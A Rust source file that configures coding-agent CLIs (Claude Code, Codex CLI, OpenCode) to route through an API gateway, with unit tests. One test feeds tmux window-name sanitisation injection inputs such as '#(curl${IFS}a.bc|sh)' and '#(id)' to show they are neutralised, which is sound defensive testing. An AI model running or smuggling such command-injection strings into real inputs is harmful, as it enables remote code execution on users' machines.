//! The coding agents `tollgate launch` starts, and how each is pointed at the gateway: the
//! program, its arguments and the environment variables set for that process only (pure; the
//! spawn is in `launch.rs`). The virtual key goes into an environment variable, never into an
//! argument (arguments are visible to every user in `ps`), and no settings file is written.
//!
//! | harness | API it speaks | base URL | key | model |
//! |---|---|---|---|---|
//! | Claude Code | Anthropic Messages | `ANTHROPIC_BASE_URL=<gateway>` (no `/v1`) | `ANTHROPIC_AUTH_TOKEN` (Bearer) | `ANTHROPIC_MODEL` (+ `ANTHROPIC_DEFAULT_HAIKU_MODEL` with `--small-model`) |
//! | Codex CLI | OpenAI Responses | `-c model_providers.tollgate.base_url=<gateway>/openai/v1` | `TOLLGATE_API_KEY` (`env_key`) | `-c model=…` |
//! | OpenCode | OpenAI Chat Completions | `OPENCODE_CONFIG_CONTENT` (inline config) | in that variable's `apiKey` | `tollgate/<model>` |
//! | Gemini CLI | Gemini API only | — | — | refused: this gateway serves no Gemini API |
//!
//! OpenCode's key is the literal `apiKey` of the inline config (an environment variable, not a
//! file): its `{env:VAR}` substitution was not applied to `OPENCODE_CONFIG_CONTENT` in some
//! releases (opencode issue 13219), so it is not relied on.
//!
//! Claude Code also gets the gateway's MCP endpoint (`<gateway>/mcp`, server name `tollgate`)
//! through `--mcp-config`, whose `Authorization` header is `Bearer ${TOLLGATE_API_KEY}`: Claude
//! Code expands `${VAR}` in MCP server configs from its environment, so the key stays out of
//! argv. Not `${ANTHROPIC_AUTH_TOKEN}`: Claude Code 2.1.331 expands that one to an empty string
//! (checked against the real binary), so the key is also set as `TOLLGATE_API_KEY`. It also gets
//! `MCP_CONNECTION_NONBLOCKING=0`, so the gateway's tools are there from the first request.

use std::fmt;

use serde_json::json;

/// The environment variable Codex CLI and OpenCode read the key from.
pub const KEY_ENV: &str = "TOLLGATE_API_KEY";

/// Variables removed from Claude Code's inherited environment: each would make it send its
/// requests elsewhere or with another credential (`ANTHROPIC_API_KEY` as `x-api-key`, an OAuth
/// token, the Bedrock / Vertex AI / Foundry back ends and their base URLs). `ANTHROPIC_CUSTOM_HEADERS`
/// is kept (extra headers still go to the gateway).
pub const CLAUDE_BYPASS_ENV: [&str; 7] = [
    "ANTHROPIC_API_KEY",
    "CLAUDE_CODE_OAUTH_TOKEN",
    "CLAUDE_CODE_USE_BEDROCK",
    "CLAUDE_CODE_USE_VERTEX",
    "CLAUDE_CODE_USE_FOUNDRY",
    "ANTHROPIC_BEDROCK_BASE_URL",
    "ANTHROPIC_VERTEX_BASE_URL",
];

/// The MCP server name Claude Code registers the gateway's tools under (`mcp__tollgate__…`;
/// the served tool names are sized for this prefix: `tollgate_proto::mcp`).
pub const MCP_SERVER_NAME: &str = "tollgate";

#[derive(
    Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize, clap::ValueEnum,
)]
#[serde(rename_all = "lowercase")]
pub enum Harness {
    /// Claude Code (`claude`).
    Claude,
    /// Codex CLI (`codex`).
    Codex,
    /// OpenCode (`opencode`).
    Opencode,
    /// Gemini CLI: refused (it speaks only the Gemini API, which this gateway does not serve).
    Gemini,
}

impl Harness {
    /// The harnesses offered in the prompt (those that can talk to this gateway).
    pub const OFFERED: [Harness; 3] = [Harness::Claude, Harness::Codex, Harness::Opencode];

    pub fn display_name(self) -> &'static str {
        match self {
            Harness::Claude => "Claude Code",
            Harness::Codex => "Codex CLI",
            Harness::Opencode => "OpenCode",
            Harness::Gemini => "Gemini CLI",
        }
    }

    /// The program looked up on `PATH` (unless a path is given).
    pub fn program(self) -> &'static str {
        match self {
            Harness::Claude => "claude",
            Harness::Codex => "codex",
            Harness::Opencode => "opencode",
            Harness::Gemini => "gemini",
        }
    }

    /// The name as `--harness` takes it.
    pub fn flag(self) -> &'static str {
        match self {
            Harness::Claude => "claude",
            Harness::Codex => "codex",
            Harness::Opencode => "opencode",
            Harness::Gemini => "gemini",
        }
    }

    /// Why a harness cannot be launched against this gateway, if it cannot.
    pub fn unsupported(self) -> Option<&'static str> {
        match self {
            Harness::Gemini => Some(
                "Gemini CLI cannot use this gateway: it speaks only Google's Gemini API \
                 (generateContent), and Tollgate serves the Anthropic Messages API and the OpenAI \
                 Chat Completions and Responses APIs. Use --harness claude, codex or opencode.",
            ),
            _ => None,
        }
    }
}

impl fmt::Display for Harness {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.display_name())
    }
}

/// What to start: the choices of one launch.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Choices {
    /// Without a trailing slash.
    pub gateway: String,
    pub harness: Harness,
    pub model: String,
    /// Claude Code's small/fast model (background tasks, the `haiku` alias), if set.
    pub small_model: Option<String>,
    /// Register the gateway's `/mcp` for the session (Claude Code).
    pub mcp: bool,
}

/// A process to start: program, arguments, environment to set and to remove.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plan {
    pub program: String,
    pub args: Vec<String>,
    pub env: Vec<(String, String)>,
    /// Variables removed from the inherited environment (credentials that would compete).
    pub env_remove: Vec<&'static str>,
}

/// How `choices.harness` is started with `key`; `program` overrides the program looked up on
/// `PATH`; `extra` are the user's own arguments for the harness (after `--`).
pub fn plan(
    choices: &Choices,
    key: &str,
    program: Option<&str>,
    extra: &[String],
) -> Result<Plan, &'static str> {
    if let Some(why) = choices.harness.unsupported() {
        return Err(why);
    }
    let gateway = choices.gateway.trim_end_matches('/');
    let program = program.unwrap_or(choices.harness.program()).to_owned();
    let mut args: Vec<String> = Vec::new();
    let mut env: Vec<(String, String)> = Vec::new();
    let mut env_remove: Vec<&'static str> = Vec::new();
    match choices.harness {
        Harness::Claude => {
            env.push(("ANTHROPIC_BASE_URL".into(), gateway.to_owned()));
            env.push(("ANTHROPIC_AUTH_TOKEN".into(), key.to_owned()));
            env.push(("ANTHROPIC_MODEL".into(), choices.model.clone()));
            // For the MCP header (see the module docs).
            env.push((KEY_ENV.into(), key.to_owned()));
            if let Some(small) = &choices.small_model {
                env.push(("ANTHROPIC_DEFAULT_HAIKU_MODEL".into(), small.clone()));
            }
            // Inherited settings that would make Claude Code bypass the gateway (another
            // credential, or Bedrock / Vertex AI / Foundry instead of ANTHROPIC_BASE_URL).
            env_remove.extend(CLAUDE_BYPASS_ENV);
            if choices.mcp {
                args.push("--mcp-config".into());
                args.push(mcp_config(gateway));
                // Claude Code connects to `--mcp-config` servers in the background and would
                // send its first request before the gateway's tools are listed (a `-p` run would
                // never see them); this makes it wait for the connection (at most its
                // `MCP_TIMEOUT`), one round trip to the gateway that also serves the model.
                env.push(("MCP_CONNECTION_NONBLOCKING".into(), "0".into()));
            }
        }
        Harness::Codex => {
            env.push((KEY_ENV.into(), key.to_owned()));
            let provider = format!(
                "model_providers.tollgate={{ name = \"Tollgate\", base_url = {}, env_key = \"{KEY_ENV}\", wire_api = \"responses\" }}",
                toml_string(&format!("{gateway}/openai/v1"))
            );
            for c in [
                provider,
                "model_provider=\"tollgate\"".to_owned(),
                format!("model={}", toml_string(&choices.model)),
            ] {
                args.push("-c".into());
                args.push(c);
            }
        }
        Harness::Opencode => {
            let config = json!({
                "$schema": "https://opencode.ai/config.json",
                "provider": {
                    "tollgate": {
                        "npm": "@ai-sdk/openai-compatible",
                        "name": "Tollgate",
                        "options": {
                            "baseURL": format!("{gateway}/openai/v1"),
                            "apiKey": key,
                        },
                        "models": { choices.model.clone(): { "name": choices.model.clone() } },
                    }
                },
                "model": format!("tollgate/{}", choices.model),
            });
            env.push(("OPENCODE_CONFIG_CONTENT".into(), config.to_string()));
        }
        Harness::Gemini => unreachable!("refused above"),
    }
    args.extend(extra.iter().cloned());
    Ok(Plan {
        program,
        args,
        env,
        env_remove,
    })
}

/// Claude Code's `--mcp-config` value: the gateway's `/mcp` as the `tollgate` server, the key
/// by reference (`${TOLLGATE_API_KEY}`, expanded by Claude Code from its environment).
pub fn mcp_config(gateway: &str) -> String {
    json!({
        "mcpServers": {
            MCP_SERVER_NAME: {
                "type": "http",
                "url": format!("{}/mcp", gateway.trim_end_matches('/')),
                "headers": { "Authorization": format!("Bearer ${{{KEY_ENV}}}") },
            }
        }
    })
    .to_string()
}

/// A TOML basic string.
fn toml_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The tmux window name of a model: its tier (`opus`, `sonnet`, `haiku`) when the name says
/// one, else the model name (without a `provider/` prefix), at most 20 characters of
/// `[A-Za-z0-9._-]` (anything else becomes `-`; never empty). tmux format-expands window names
/// (`#(cmd)` runs a shell command, `#{..}` reads variables), and the model name comes from the
/// gateway, so nothing but these characters may reach `new-window -n`.
pub fn tier(model: &str) -> String {
    let lower = model.to_ascii_lowercase();
    for t in ["opus", "sonnet", "haiku"] {
        if lower.contains(t) {
            return t.to_owned();
        }
    }
    let bare = model.rsplit('/').next().unwrap_or(model);
    let name: String = bare
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-') {
                c
            } else {
                '-'
            }
        })
        .take(20)
        .collect();
    if name.is_empty() {
        "model".to_owned()
    } else {
        name
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "sk-tg-secret-key-value";

    fn choices(harness: Harness) -> Choices {
        Choices {
            gateway: "https://gw.example.com/".into(),
            harness,
            model: "claude-sonnet-4-6".into(),
            small_model: Some("claude-haiku-4-5".into()),
            mcp: true,
        }
    }

    fn env<'a>(plan: &'a Plan, name: &str) -> Option<&'a str> {
        plan.env
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }

    #[test]
    fn claude_code_gets_the_base_url_token_model_and_the_mcp_server_by_reference() {
        let extra = vec!["--resume".to_owned()];
        let p = plan(&choices(Harness::Claude), KEY, None, &extra).unwrap();
        assert_eq!(p.program, "claude");
        assert_eq!(
            env(&p, "ANTHROPIC_BASE_URL"),
            Some("https://gw.example.com")
        );
        assert_eq!(env(&p, "ANTHROPIC_AUTH_TOKEN"), Some(KEY));
        assert_eq!(env(&p, KEY_ENV), Some(KEY));
        assert_eq!(env(&p, "ANTHROPIC_MODEL"), Some("claude-sonnet-4-6"));
        assert_eq!(
            env(&p, "ANTHROPIC_DEFAULT_HAIKU_MODEL"),
            Some("claude-haiku-4-5")
        );
        assert_eq!(p.env_remove, CLAUDE_BYPASS_ENV);
        assert!(p.env_remove.contains(&"CLAUDE_CODE_USE_BEDROCK"));
        assert!(!p.env_remove.contains(&"ANTHROPIC_CUSTOM_HEADERS"));
        assert_eq!(p.args[0], "--mcp-config");
        let mcp: serde_json::Value = serde_json::from_str(&p.args[1]).unwrap();
        assert_eq!(
            mcp,
            json!({"mcpServers": {"tollgate": {
                "type": "http",
                "url": "https://gw.example.com/mcp",
                "headers": {"Authorization": "Bearer ${TOLLGATE_API_KEY}"}
            }}})
        );
        assert_eq!(env(&p, "MCP_CONNECTION_NONBLOCKING"), Some("0"));
        assert_eq!(p.args[2], "--resume");
        assert!(p.args.iter().all(|a| !a.contains(KEY)));

        let mut no_mcp = choices(Harness::Claude);
        no_mcp.mcp = false;
        no_mcp.small_model = None;
        let p = plan(&no_mcp, KEY, Some("/opt/claude"), &[]).unwrap();
        assert_eq!(p.program, "/opt/claude");
        assert!(p.args.is_empty());
        assert_eq!(env(&p, "ANTHROPIC_DEFAULT_HAIKU_MODEL"), None);
        assert_eq!(env(&p, "MCP_CONNECTION_NONBLOCKING"), None);
    }

    #[test]
    fn codex_gets_command_line_overrides_and_the_key_in_its_env_key() {
        let p = plan(&choices(Harness::Codex), KEY, None, &[]).unwrap();
        assert_eq!(p.program, "codex");
        assert_eq!(env(&p, KEY_ENV), Some(KEY));
        assert_eq!(
            p.args,
            [
                "-c",
                "model_providers.tollgate={ name = \"Tollgate\", base_url = \"https://gw.example.com/openai/v1\", env_key = \"TOLLGATE_API_KEY\", wire_api = \"responses\" }",
                "-c",
                "model_provider=\"tollgate\"",
                "-c",
                "model=\"claude-sonnet-4-6\"",
            ]
        );
        assert!(p.args.iter().all(|a| !a.contains(KEY)));
    }

    #[test]
    fn opencode_gets_an_inline_config_in_its_environment() {
        let p = plan(&choices(Harness::Opencode), KEY, None, &[]).unwrap();
        let config: serde_json::Value =
            serde_json::from_str(env(&p, "OPENCODE_CONFIG_CONTENT").unwrap()).unwrap();
        assert_eq!(config["model"], "tollgate/claude-sonnet-4-6");
        let provider = &config["provider"]["tollgate"];
        assert_eq!(
            provider["options"]["baseURL"],
            "https://gw.example.com/openai/v1"
        );
        assert_eq!(provider["options"]["apiKey"], KEY);
        assert!(p.args.is_empty());
    }

    #[test]
    fn gemini_cli_is_refused_with_the_reason() {
        let why = plan(&choices(Harness::Gemini), KEY, None, &[]).unwrap_err();
        assert!(why.contains("Gemini API"), "{why}");
        assert!(!Harness::OFFERED.contains(&Harness::Gemini));
    }

    #[test]
    fn tmux_window_names_cannot_carry_format_or_shell_syntax() {
        for model in [
            "#(curl${IFS}a.bc|sh)",
            "#{pane_current_command}",
            "a$b|c;d`e`",
            "vendor/#(id)",
            "",
            "p/",
        ] {
            let name = tier(model);
            assert!(!name.is_empty(), "{model:?}");
            assert!(
                name.chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')),
                "{model:?} -> {name:?}"
            );
        }
        assert_eq!(tier("#(curl${IFS}a.bc|sh)"), "--curl--IFS-a.bc-sh-");
        assert_eq!(tier("gpt-5.1_mini"), "gpt-5.1_mini");
    }

    #[test]
    fn toml_strings_are_escaped_and_tiers_named() {
        assert_eq!(toml_string("a\"b\\c\n"), "\"a\\\"b\\\\c\\u000A\"");
        assert_eq!(tier("claude-opus-4-6"), "opus");
        assert_eq!(tier("bedrock/claude-haiku-4-5"), "haiku");
        assert_eq!(
            tier("openai/gpt-5.1-codex-max-long-name"),
            "gpt-5.1-codex-max-lo"
        );
    }
}
